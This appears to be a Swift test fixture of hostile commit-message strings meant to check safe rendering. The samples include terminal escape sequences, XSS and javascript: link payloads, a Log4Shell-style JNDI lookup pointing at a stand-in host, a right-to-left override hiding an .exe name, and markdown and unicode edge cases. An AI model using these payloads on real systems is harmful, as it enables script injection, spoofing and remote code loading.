/// What people have put, or could put, into commit messages. Tests take the samples by index, so that the text itself
/// does not reach a test log.
enum HostileText {
    static let samples = [
        "\u{1B}[2J\u{1B}[1;31mowned\u{1B}]8;;https://evil.example\u{7}click\u{1B}]8;;\u{7}",
        "\u{9B}31m C1 and DEL \u{7F}",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)\" x='",
        "--><!-- ]]> <!DOCTYPE html> <?php ?> </style></title></main>",
        "&lt;b&gt; &amp; &#60;script&#62; &unknown; AT&T",
        "[click](javascript:alert(1)) ![x](https://evil.example/x.png) [a]: https://evil.example",
        "x](https://evil.example) [y][z]",
        "# heading\n## another\n- item\n1. first\n> quote\n```\nfence\n```\n---\n| a | b |\n| - | - |",
        "- [x] task", "[ ] task", "1. one", "1) one", "+ plus", "* star", "> quote", "# heading", "---", "- - -", "***",
        "***bold*** __init__ snake_case *em* _em_ ~~gone~~ 2 * 3 ~1.0 ~2.0 $x$ and $y$",
        "`code` ``two`` ` lone `a``b` \\`c\\` `<b>` ```", "`x`@victim @team/x `y`#12 \\www.evil.example",
        "@octocat please see #12, GH-12, octo/reef#13 and user@example.com or https://evil.example/?a=`b`",
        "ends with a backslash \\", "\\", "C:\\dir\\[x]\\*", "", "   ", "\n\n",
        "\u{202E}txt.exe\u{202C} \u{2066}isolate\u{2069} \u{200B}\u{FEFF}\u{E0041} line\u{2028}two\u{2029}three",
        "שלום עולם مرحبا 你好 👩‍👩‍👧‍👦 🏳️‍🌈 Zürich e\u{301}",
        "replacement \u{FFFD}\u{0}\u{FFFE}", String(repeating: "[", count: 3_000),
        String(repeating: "*a_", count: 1_000), "<a\nhref='x'>", "<!--", "${jndi:ldap://evil}", "*|*", "| cell |",
    ]
}
